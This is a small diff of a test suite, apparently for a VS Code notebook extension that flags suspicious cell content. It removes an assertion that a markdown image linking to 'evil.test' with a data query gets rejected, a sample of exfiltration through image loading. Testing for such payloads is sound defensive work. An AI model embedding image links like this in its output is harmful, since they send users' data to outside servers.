@@ -144,8 +144,6 @@ describe('commands on code in cells', () => {
       const notebook = await showNotebook(await putNotebook(analysis, '.vscode'), 0);
       assert.equal(await pass(notebook.cellAt(1), 'high = 1'), false);
       assert.equal(warnings.length, 1);
-      assert.equal(await pass(plain.notebook.cellAt(0), '![](https://evil.test/?data)'), false);
-      assert.equal(warnings.length, 2);
     } finally {
       Object.assign(vscode.window, { showWarningMessage });
     }
